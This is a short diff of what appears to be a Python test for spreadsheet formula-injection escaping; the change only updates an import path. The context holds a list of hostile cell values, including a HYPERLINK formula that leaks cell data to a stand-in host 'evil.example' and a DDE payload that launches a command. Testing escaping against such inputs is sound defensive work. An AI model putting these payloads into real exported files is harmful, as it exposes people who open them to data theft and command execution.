@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 from sync_support import REGION, Platform, environment, run_cli, simulator
 
 from ssj_bridge.errors import ExitCode
-from ssj_bridge.spreadsheet import FORMULA_START, csv_cell
+from ssj_bridge.report.spreadsheet import FORMULA_START, csv_cell
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
